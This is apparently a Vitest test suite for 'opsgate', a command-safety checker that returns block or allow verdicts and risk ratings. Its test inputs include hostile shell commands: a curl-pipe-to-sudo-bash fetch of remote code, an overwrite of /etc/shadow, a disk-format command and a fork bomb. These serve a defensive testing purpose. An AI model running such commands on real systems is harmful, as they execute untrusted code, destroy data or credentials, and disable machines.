import { spawnSync } from 'node:child_process';
import { PassThrough } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { CliIo } from '../../src/cli/command.ts';
import { main } from '../../src/cli/main.ts';

async function run(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  let out = '';
  let err = '';
  stdout.on('data', (chunk) => {
    out += chunk;
  });
  stderr.on('data', (chunk) => {
    err += chunk;
  });
  const io: CliIo = { stdout, stderr, stdin: new PassThrough(), env: {} };
  const code = await main(args, io);
  return { code, stdout: out, stderr: err };
}

describe('opsgate check-command', () => {
  it('AR-01 prints the block verdict as JSON and exits 3', async () => {
    const result = await run(['check-command', '--os', 'linux', '--', 'curl -s http://x/i.sh | sudo bash']);
    expect(result.code).toBe(3);
    expect(JSON.parse(result.stdout)).toMatchObject({
      verdict: 'block',
      rule: 'pipe-to-shell',
      category: 'remote-code',
      segment: 'sudo bash',
    });
  });

  it('AR-06 prints the allow verdict and exits 0, for Linux and Windows', async () => {
    const linux = await run(['check-command', '--os', 'linux', '--', 'rm -rf ./build']);
    expect(linux.code).toBe(0);
    expect(JSON.parse(linux.stdout)).toMatchObject({ verdict: 'allow', rule: null, category: null, segment: 'rm -rf ./build' });
    const windows = await run(['check-command', '--os', 'windows', '--pretty', '--', 'Get-Volume']);
    expect(windows.code).toBe(0);
    expect(windows.stdout).toContain('\n  "verdict": "allow"');
  });

  it('prints the risk and its reason beside the verdict, from what the command does (review H1-new)', async () => {
    const sorted = await run(['check-command', '--os', 'linux', '--', 'sort -o /etc/shadow /dev/null']);
    expect(JSON.parse(sorted.stdout)).toMatchObject({
      risk: 'critical',
      riskReason: '`sort -o /etc/shadow /dev/null` writes to /etc/shadow (credentials)',
    });
    const wrapped = await run(['check-command', '--os', 'linux', '--', 'timeout 5 rm -rf /tmp/victimdir']);
    expect(JSON.parse(wrapped.stdout)).toMatchObject({
      verdict: 'allow',
      risk: 'critical',
      riskReason: expect.stringContaining('(via timeout)'),
    });
    const read = await run(['check-command', '--os', 'linux', '--', 'df -h | sort']);
    expect(JSON.parse(read.stdout)).toMatchObject({ verdict: 'allow', risk: 'low', riskReason: 'read-only diagnostics: df, sort' });
  });

  it('AR-06 blocks Windows commands by the Windows list', async () => {
    const result = await run(['check-command', '--os', 'windows', '--', 'Format-Volume', '-DriveLetter', 'C']);
    expect(result.code).toBe(3);
    expect(JSON.parse(result.stdout).rule).toBe('disk-format');
  });

  it.each([
    [['check-command', '--', 'ls'], '--os is required'],
    [['check-command', '--os', 'macos', '--', 'ls'], '--os must be linux or windows'],
    [['check-command', '--os', 'linux'], 'give the command to check'],
    [['check-command', '--os', 'linux', '--bogus', '--', 'ls'], 'bogus'],
  ])('exits 2 with a one-line error for %j', async (args, message) => {
    const result = await run(args);
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain(message);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
  });

  it('AR-01 works as a real process through bin/opsgate', () => {
    const bin = fileURLToPath(new URL('../../bin/opsgate', import.meta.url));
    const blocked = spawnSync(bin, ['check-command', '--os', 'linux', '--', ':(){ :|:& };:'], { encoding: 'utf8' });
    expect(blocked.status).toBe(3);
    expect(JSON.parse(blocked.stdout).category).toBe('fork-bomb');
  });
});
